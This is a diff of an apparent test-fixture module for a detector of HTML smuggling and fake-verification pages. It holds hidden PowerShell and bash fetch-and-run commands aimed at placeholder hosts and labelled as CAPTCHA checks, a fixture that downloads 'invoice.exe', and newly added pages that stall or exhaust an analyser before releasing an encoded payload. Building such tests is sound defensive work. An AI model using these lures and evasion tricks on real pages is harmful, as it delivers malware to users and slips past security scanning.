@@ -7,7 +7,7 @@ import base64
 import json
 import urllib.parse
 
-from tests.pages.smuggling_pages import page, script
+from tests.pages.smuggling_pages import QUIET, page, script
 
 COMMAND = 'powershell -w hidden -c "iwr https://files.example/a.txt | iex" # Cloudflare verification 4711'
 MAC_COMMAND = '/bin/bash -c "$(curl -fsSL https://files.example/a.sh)" # I am not a robot'
@@ -22,6 +22,8 @@ def hidden(text: str) -> str:
     """An expression whose value is the text, and that does not contain it."""
     return f"atob('{B64(text.encode()).decode()}')"
 
+
+PAYLOAD = f"var s=atob('{B64(b'MZ' + bytes(range(256))).decode()}');{QUIET}"
 
 COMMANDS: dict[str, str] = {
     "on click": script(
@@ -164,4 +166,15 @@ UNKNOWN: dict[str, str] = {
     "fetched file": script(
         "fetch('https://cdn.example/file').then(r=>r.blob()).then(b=>{var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.exe';a.click()})"
     ),
+}
+
+# Pages that work against the limits of an analysis.
+STALLING: dict[str, str] = {
+    "computes first": script("var n=0;for(var i=0;i<4e9;i++)n^=i;" + PAYLOAD),
+    "computes in a timer": script("setTimeout(()=>{var n=0;for(var i=0;i<4e9;i++)n^=i;" + PAYLOAD + "},99)"),
+    "fills the memory first": script("var k=[];for(var i=0;i<99;i++)k.push(new Uint8Array(5e6));" + PAYLOAD),
+    "many files before": script("for(var i=0;i<900;i++)new Blob(['nothing of worth '+i]);" + PAYLOAD),
+    "large files before": script("for(var i=0;i<9;i++)new Blob([new Uint8Array(3e6)]);" + PAYLOAD),
+    "many pictures before": script("for(var i=0;i<900;i++)new Image().src='https://cdn.example/'+i;" + PAYLOAD),
+    "many codes before": script("for(var i=0;i<300;i++)Function('return '+i)();" + PAYLOAD),
 }
